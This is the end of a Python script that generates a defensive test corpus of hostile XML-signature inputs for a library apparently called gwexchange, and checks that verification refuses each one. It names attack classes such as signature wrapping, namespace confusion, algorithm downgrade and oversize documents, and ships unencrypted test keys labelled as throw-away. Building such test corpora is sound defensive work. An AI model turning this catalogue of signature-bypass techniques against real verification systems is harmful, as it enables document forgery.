    (("comment-", "processing-instruction"), "xml-form"),
    (("depth-bomb",), "oversize-depth"),
    (
        (
            "xsw",
            "signature-inside-body",
            "signature-copy-inside-body",
            "signature-before-content",
            "signature-in-the-middle",
            "content-after-signature",
            "signature-duplicated",
            "signature-block-duplicated",
            "signing-element-outside-blocks",
            "signing-element-doubled",
        ),
        "signature-wrapping",
    ),
    (("gw-prefix-", "ds-prefix-", "default-namespace-"), "namespace-confusion"),
    (("reference-external-", "reference-xpointer-"), "xslt-xpath-external"),
    (("reference-id-",), "duplicate-ids"),
    (
        ("reference-", "two-references", "extra-element-in-signedinfo", "signedinfo-attribute", "transform"),
        "references-transforms",
    ),
    (
        ("c14n-", "digest-", "signature-ecdsa-sha1", "signature-rsa-", "signature-hmac-", "hmac-", "algorithm-"),
        "algorithm-downgrade",
    ),
    (("signature-value-",), "signature-value"),
    (("keyinfo-",), "keyinfo"),
    (("cert-",), "certificates"),
    (("signing-", "joint-"), "signing-blocks"),
    (("signed-",), "schema"),
)


def attack_class(name: str) -> str:
    """The class of the attack file ``name`` (without .xml)."""
    if name in CLASS_BY_NAME:
        return CLASS_BY_NAME[name]
    for prefixes, cls in CLASS_BY_PREFIX:
        if name.startswith(prefixes):
            return cls
    raise AssertionError(f"attack {name} has no class: add it to CLASS_BY_NAME or CLASS_BY_PREFIX")


def write_index(attacks: list[Attack]) -> None:
    lines = [
        "# The hostile-input corpus of gwexchange: generated by make_attacks.py, run by tests/attacks/runner.py.",
        "# For each file: its class, the gwexchange.errors class verify_document must raise, a substring of its",
        "# message, and the attack. Verified with the trust of tests/vectors/pki (root.crt, crl.pem) at `now`.",
        "# Inputs too large to keep (`generate`) are made at run time by runner.py.",
        "",
        f"now = {VERIFY_NOW.strftime(TIME)}",
        "",
    ]
    for attack in sorted(attacks, key=lambda a: a.name):
        lines += [
            f"[attacks.{toml_string(attack.name)}]",
            f"class = {toml_string(attack_class(attack.name.removesuffix('.xml')))}",
            f"error = {toml_string(attack.error)}",
            f"message = {toml_string(attack.message)}",
            f"description = {toml_string(attack.description)}",
            "",
        ]
    for name, cls, error, message, description, generator in GENERATED:
        lines += [
            f"[attacks.{toml_string(name)}]",
            f"class = {toml_string(cls)}",
            f"generate = {toml_string(generator)}",
            f"error = {toml_string(error)}",
            f"message = {toml_string(message)}",
            f"description = {toml_string(description)}",
            "",
        ]
    (HERE / "index.toml").write_text("\n".join(lines), encoding="utf-8")


# Inputs made at run time by runner.py: (name, class, error, message, description, generator).
GENERATED = (
    (
        "oversize-document",
        "oversize-depth",
        "XmlInputError",
        "more than the limit of 16777216",
        "The signed notice padded with paragraphs to 16 MiB + 1 byte: refused for its size before parsing.",
        "oversize-document",
    ),
    (
        "huge-text-node",
        "oversize-depth",
        "XmlInputError",
        "malformed XML",
        "An 11 MB text node in the Title: over libxml2's limit for one text node (huge_tree is off).",
        "huge-text-node",
    ),
    (
        "wide-document",
        "oversize-depth",
        "SignatureError",
        DIGEST_CHANGED,
        "One million empty paragraphs inserted in the signed Body (8 MB): parsed within the limits, refused by the "
        "digest.",
        "wide-document",
    ),
)


def reindex() -> int:
    """Rewrite index.toml from the entries it holds, with today's classes and generated inputs."""
    import tomllib

    entries = tomllib.loads((HERE / "index.toml").read_text(encoding="utf-8"))["attacks"]
    generated = {g[0] for g in GENERATED}
    attacks = [
        Attack(name, b"", e["error"], e["message"], e["description"])
        for name, e in entries.items()
        if name not in generated
    ]
    write_index(attacks)
    print(f"index.toml rewritten: {len(attacks)} files, {len(GENERATED)} generated inputs")
    return 0


README = """\
# Test vectors — NOT SECRETS

Everything here is generated by `tests/attacks/make_attacks.py` and checked in on purpose. The private keys
(`*.key`) are stored UNENCRYPTED (`UnsafeUnencrypted`): they are throw-away test vectors, published with the
source code, and must never be trusted, installed or used for anything real.

* `pki/` — the trusted test PKI, an `Authority` home. Root `gd.gov.ca`, valid from 2026-01-01 for 20 years.
  `issued/gd.gov.office/`: `signing` (EC P-256), `signing-rsa` (RSA-2048), `signing-expired` (valid only
  2026-01-01 to 2026-03-01), `signing-revoked` (revoked for keyCompromise on 2026-06-01), `encryption`;
  `issued/gd.gov.czt/` and `issued/gd.gov.gxt/`: `signing`; `issued/gd-hub.gov/`: `node`. `crl.pem` lists the
  revoked certificate and is valid until 2046.
* `attacker/` — what an attacker holds: `root/` (an unrelated root and its gd.gov.office certificate),
  `impostor-root/` (a root with the same name as the trusted one, another key), `self-signed-office.*`, and
  certificates the trusted root mis-issued: `ca-flag-office.*` (basicConstraints CA=true), `sub-ca.*` and
  `sub-ca-office.*` (an end-entity certificate of a sub-CA).
* `notice.draft.xml` — the draft of `examples/notice.toml`; `notice.signed.xml` (EC P-256) and
  `notice.rsa.signed.xml` (RSA-2048), signed by gd.gov.office at 2026-11-20T08:00:00Z;
  `joint-notice.signed.xml`, signed by gd.gov.czt at 08:00:00Z then gd.gov.gxt at 09:30:00Z. All verify with
  `pki/root.crt` and `pki/crl.pem` at 2026-11-20T12:00:00Z.
"""


def clean() -> None:
    for folder in (PKI, ATTACKER):
        if folder.exists():
            shutil.rmtree(folder)
    for path in [*VECTORS.glob("*.xml"), *HERE.glob("*.xml"), HERE / "index.toml", VECTORS / "README.md"]:
        path.unlink(missing_ok=True)


def main() -> int:
    if sys.argv[1:] == ["--reindex"]:
        return reindex()
    clean()
    VECTORS.mkdir(parents=True, exist_ok=True)
    pki = build_pki()
    trust = pki.trust()
    draft = make_draft()
    signed = sign_document(draft, pki.office.signer, at=SIGNED_AT)
    signed_rsa = sign_document(draft, pki.office_rsa.signer, at=SIGNED_AT)
    joint_draft = document_to_xml(load_description_file(EXAMPLES / "joint-notice.toml"))
    joint = sign_document(joint_draft, pki.czt.signer, at=SIGNED_AT)
    joint = sign_document(joint, pki.gxt.signer, at=SECOND_SIGNED_AT, trust=trust)
    # The signer of this script, in our profile, must produce what the library accepts: then the attacks it
    # signs in other shapes are refused for their shape, not for a slip of this script.
    own = parse(draft)
    sign_shape(own, pki.office)
    for data in (signed, signed_rsa, joint, serialize(own)):
        verify_document(data, trust, now=VERIFY_NOW)
    (VECTORS / "notice.draft.xml").write_bytes(draft)
    (VECTORS / "notice.signed.xml").write_bytes(signed)
    (VECTORS / "notice.rsa.signed.xml").write_bytes(signed_rsa)
    (VECTORS / "joint-notice.signed.xml").write_bytes(joint)
    (VECTORS / "README.md").write_text(README, encoding="utf-8")

    corpus = build_corpus(pki, draft, signed, joint, joint_draft)
    good: list[Attack] = []
    bad: list[tuple[Attack, str]] = []
    for attack in corpus.attacks:
        problem = check(attack, trust)
        if problem is None:
            good.append(attack)
            (HERE / attack.name).write_bytes(attack.data)
        else:
            bad.append((attack, problem))
    write_index(good)
    print(f"{len(good)} attacks written to {HERE.relative_to(REPO)}/, index.toml updated")
    for attack, problem in bad:
        print(
            f"NOT WRITTEN {attack.name}: expected {attack.error} containing {attack.message!r}; {problem}",
            file=sys.stderr,
        )
    # The exchange corpus is signed by this PKI: make it again.
    import make_exchange_attacks

    return max(1 if bad else 0, make_exchange_attacks.main())


if __name__ == "__main__":
    sys.exit(main())
